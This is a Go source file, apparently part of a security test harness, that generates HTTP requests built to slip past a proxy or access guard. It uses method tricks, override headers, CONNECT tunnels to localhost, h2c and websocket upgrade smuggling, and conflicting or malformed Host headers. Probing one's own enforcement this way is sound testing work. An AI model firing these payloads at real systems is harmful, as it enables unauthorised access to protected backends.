package adversary

import (
	"net/url"
	"strings"
)

// What follows are kinds for everything that reads requests: another way to write a request that is refused, in the hope that
// the guard does not recognize what the server behind it does.

func methodTricks(gates []gate) []Attempt {
	methods := []string{"get", "Get", "gET", "HEAD", "head", "DELETE", "PUT", "PATCH", "TRACE", "OPTIONS", "PROPFIND", "MKCOL", "PURGE", "DEBUG",
		"TRACK", "GETGET", "GE", "G-T", "GET/1", "PRI", "SEARCH", "LINK", "X", "QUERY", "Connect", "POST"}
	return every(gates, func(g gate, path string) []Attempt {
		var texts []string
		for _, method := range methods {
			texts = append(texts, h1(method, path, g.host, g.extra...))
		}
		texts = append(texts, h1("OPTIONS", "*", g.host, g.extra...), h1(" GET", path, g.host, g.extra...), h1("GET ", path, g.host, g.extra...))
		return plain(texts...)
	})
}

func methodOverrides(gates []gate) []Attempt {
	var lines []string
	for _, name := range []string{"X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "x-http-method-override", "X_HTTP_METHOD_OVERRIDE"} {
		for _, said := range []string{"GET", "POST", "OPTIONS", "get", "HEAD"} {
			lines = append(lines, name+": "+said)
		}
	}
	return every(gates, func(g gate, path string) []Attempt {
		var texts []string
		for _, method := range []string{"DELETE", "PUT", "PATCH", "GET"} {
			for _, line := range lines {
				texts = append(texts, h1(method, path, g.host, append([]string{line}, g.extra...)...))
			}
			query := path + "?_method=GET"
			if strings.Contains(path, "?") {
				query = path + "&_method=GET"
			}
			texts = append(texts, h1(method, query, g.host, g.extra...))
		}
		return plain(texts...)
	})
}

// connects ask for a tunnel, or smuggle one.
func connects(gates []gate) []Attempt {
	return every(gates, func(g gate, path string) []Attempt {
		inner := g.get(path)
		var texts []string
		for _, target := range []string{g.host, withPort(g.host, "443"), withPort(g.host, "80"), withPort(g.host, "8080"), "127.0.0.1:8080", "localhost:15000", g.doorHost, withPort(g.doorHost, "443"), "*", path} {
			texts = append(texts,
				h1("CONNECT", target, g.host, g.extra...)+inner,
				h1("CONNECT", target, g.doorHost, "Content-Length: 0")+inner,
				g.doorHead()+h1("CONNECT", target, g.host)+inner,
				g.doorHead()+h1("CONNECT", target, target, "Proxy-Connection: keep-alive")+inner,
				h1("CONNECT", target, g.host, "Transfer-Encoding: chunked")+"0\r\n\r\n"+inner)
		}
		return lingering(texts...)
	})
}

func withPort(host, port string) string {
	name, _, _ := strings.Cut(host, ":")
	return name + ":" + port
}

// upgrades ask for another protocol in which the next request is meant to go by unseen.
func upgrades(gates []gate) []Attempt {
	kinds := [][]string{
		{"Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA"},
		{"Connection: Upgrade", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA"},
		{"Connection: upgrade", "Upgrade: H2C"},
		{"Connection: HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA"},
		{"Connection: Upgrade", "Upgrade: TLS/1.0, HTTP/1.1"},
		{"Connection: Upgrade", "Upgrade: websocket, h2c"},
	}
	return upgradeAttempts(gates, kinds)
}

func webSockets(gates []gate) []Attempt {
	kinds := [][]string{
		{"Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="},
		{"Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 777", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="},
		{"Connection: keep-alive, Upgrade", "Upgrade: WebSocket", "Sec-WebSocket-Version: 13"},
		{"Connection: upgrade", "Upgrade: websocket", "Content-Length: 0"},
		{"Connection: Upgrade", "Upgrade: \twebsocket"},
		{"Upgrade: websocket"},
	}
	return upgradeAttempts(gates, kinds)
}

func upgradeAttempts(gates []gate, kinds [][]string) []Attempt {
	return every(gates, func(g gate, path string) []Attempt {
		var texts []string
		for _, lines := range kinds {
			texts = append(texts, g.get(path, lines...), g.doorHead(lines...)+g.get(path), h1("POST", path, g.host, append(lines, g.extra...)...))
		}
		return lingering(texts...)
	})
}

// absoluteForms have a URI in the request line, and perhaps another host beside it.
func absoluteForms(gates []gate) []Attempt {
	return every(gates, func(g gate, path string) []Attempt {
		var texts []string
		for _, scheme := range []string{"http", "https", "HTTP", "ftp", "ws", "h2c", "spiffe"} {
			for _, host := range []string{g.doorHost, g.host, "localhost", ""} {
				texts = append(texts, h1("GET", scheme+"://"+g.host+path, host, g.extra...))
			}
			texts = append(texts,
				h1("GET", scheme+"://"+g.doorHost+path, g.host, g.extra...),
				h1("GET", scheme+"://"+g.doorHost+"@"+g.host+path, g.doorHost, g.extra...),
				h1("GET", scheme+"://"+g.host+"#"+g.doorPath, g.doorHost, g.extra...),
				h1("GET", scheme+"://"+url.PathEscape(g.doorHost+"/")+g.host+path, g.host, g.extra...),
				h1("GET", scheme+":"+path, g.host, g.extra...))
		}
		texts = append(texts, h1("GET", "//"+g.host+path, g.doorHost, g.extra...), h1("GET", g.host+path, g.host, g.extra...))
		return plain(texts...)
	})
}

// versions of HTTP that are old, odd, or none.
func versions(gates []gate) []Attempt {
	return every(gates, func(g gate, path string) []Attempt {
		var texts []string
		for _, version := range []string{"HTTP/1.0", "HTTP/0.9", "HTTP/1.2", "HTTP/2.0", "HTTP/3", "http/1.1", "HTTP/1.01", "HTTP/11", "HTTP/1.1 HTTP/1.1", "HTTPS/1.1", "ICY/1.1"} {
			text := g.get(path)
			texts = append(texts, strings.Replace(text, "HTTP/1.1", version, 1), strings.Replace(strings.Replace(text, "Host: "+g.host+"\r\n", "", 1), "HTTP/1.1", version, 1))
		}
		texts = append(texts, "GET "+path+"\r\n", "GET "+path+" "+ID+"\r\n\r\n")
		return plain(texts...)
	})
}

// hosts are ways to write a host that is refused so that a guard takes it for another.
func hosts(gates []gate) []Attempt {
	return every(gates, func(g gate, path string) []Attempt {
		var texts []string
		name, _, _ := strings.Cut(g.host, ":")
		for _, host := range hostForms(name) {
			texts = append(texts, h1("GET", path, host, g.extra...))
		}
		return plain(texts...)
	})
}

func hostForms(name string) []string {
	forms := []string{strings.ToUpper(name), strings.ToUpper(name[:1]) + name[1:], name + ".", name + "..", "." + name, name + ".:443", strings.ToUpper(name) + ":443"}
	for _, port := range []string{"80", "443", "8080", "8443", "0", "1", "65535", "65536", "99999999999", "0443", "+443", "-1", "443 ", " 443", "443:443", "http", "x", "", "8443/", "*"} {
		forms = append(forms, name+":"+port)
	}
	return forms
}

// oddHosts hold characters that parsers of hosts disagree about.
func oddHosts(gates []gate) []Attempt {
	return every(gates, func(g gate, path string) []Attempt {
		name, _, _ := strings.Cut(g.host, ":")
		other, _, _ := strings.Cut(g.doorHost, ":")
		var texts []string
		for _, form := range []string{
			"%s@%s", "%s:80@%s", "user:pass@%[2]s", "%[2]s#%[1]s", "%[2]s?%[1]s", "%[2]s/%[1]s", "%[2]s\\%[1]s", "%[2]s, %[1]s", "%[1]s, %[2]s", "%[2]s,%[1]s", "%[2]s %[1]s",
			"%[1]s %[2]s", "%[2]s\t", "\t%[2]s", "  %[2]s  ", "%[2]s;%[1]s", "[%[2]s]", "\"%[2]s\"", "%[2]s%%00", "%[2]s%%00.%[1]s", "%[2]s%%2e", "http://%[2]s", "//%[2]s", "%[2]s\x00", "%[2]s\x0b",
			"\xef\xbb\xbf%[2]s", "%[2]s\u3002", "%[2]s&%[1]s", "%[2]s|%[1]s", "*.%[2]s", "%[2]s:443@%[1]s:443",
		} {
			host := sprint(form, other, name)
			host, _, _ = strings.Cut(host, "%!(EXTRA")
			texts = append(texts, h1("GET", path, host, g.extra...))
		}
		return plain(texts...)
	})
}

// twoHosts say two of them, in two fields or in one, or none.
func twoHosts(gates []gate) []Attempt {
	return every(gates, func(g gate, path string) []Attempt {
		first := func(a, b string) string {
			return "GET " + path + " HTTP/1.1\r\n" + a + "\r\n" + b + "\r\nX-Attempt: " + ID + "\r\n" + joined(g.extra) + "\r\n"
		}
		secret, open := g.host, g.doorHost
		return plain(
			first("Host: "+open, "Host: "+secret), first("Host: "+secret, "Host: "+open), first("Host: "+open, "host: "+secret), first("HOST: "+secret, "Host: "+open),
			first("Host: "+secret, "Host: "+secret), first("Host: "+open, " Host: "+secret), first("Host: "+open, "Host : "+secret), first("Host:", "Host: "+secret),
			first("Host: "+secret, "Host:"), first("Host: "+open+",", "Host: "+secret), first("Host: "+secret, "X-Forwarded-Host: "+open), first("Host: "+open, "X-Forwarded-Host: "+secret),
			first("Host: "+open, "X-Host: "+secret), first("Host: "+secret, "X-Original-Host: "+open), first("Host: "+open, ":authority: "+secret), first(":authority: "+open, "Host: "+secret),
			first("Host: "+secret, "Forwarded: host="+open), first("Host: "+open, "Forwarded: host="+secret), first("Host: "+open+"\r\n "+secret, "X: y"), first("Host\x00: "+open, "Host: "+secret),
		)
	})
}

// noHost leaves it out, or says an address.
func noHost(gates []gate) []Attempt {
	return every(gates, func(g gate, path string) []Attempt {
		var texts []string
		for _, host := range []string{"", " ", "127.0.0.1", "127.0.0.1:8443", "[::1]", "[::ffff:127.0.0.1]:443", "0x7f000001", "2130706433", "0", "localhost", "*", "~^.*$", "\"\"", ".", "-", "_", "%", "::1", "0.0.0.0:443"} {
			texts = append(texts, h1("GET", path, host, g.extra...), h1("POST", path, host, g.extra...))
		}
		old := "GET " + path + " HTTP/1.0\r\nX-Attempt: " + ID + "\r\n" + joined(g.extra)
		return plain(append(texts, old+"\r\n", old+"Host: \r\n\r\n", old+"X-Forwarded-Host: "+g.host+"\r\n\r\n", h1("GET", path, g.host, g.extra...))...)
	})
}

func joined(lines []string) string {
	text := ""
	for _, line := range lines {
		text += line + "\r\n"
	}
	return text
}
